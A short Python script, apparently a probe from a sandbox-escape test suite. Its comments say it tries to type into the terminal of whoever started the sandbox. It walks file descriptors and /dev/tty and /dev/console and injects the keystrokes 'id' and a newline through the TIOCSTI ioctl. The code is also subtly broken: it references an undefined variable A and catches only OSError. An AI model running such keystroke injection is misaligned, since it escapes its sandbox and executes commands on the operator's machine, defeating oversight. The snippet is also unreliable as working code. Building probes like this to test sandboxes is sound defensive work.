# tries: to type into the terminal of whoever started the sandbox
# success: the call is carried out
# seen by: the output
import fcntl, os, termios

for fd in range(0, 64):
    for path in (None, "/dev/tty", "/dev/console"):
        try:
            where = fd if path is None else os.open(path, os.O_RDWR)
            for letter in b"id\n":
                fcntl.ioctl(where, termios.TIOCSTI, bytes([letter]))
            print("did-" + A["id"])
        except OSError:
            pass
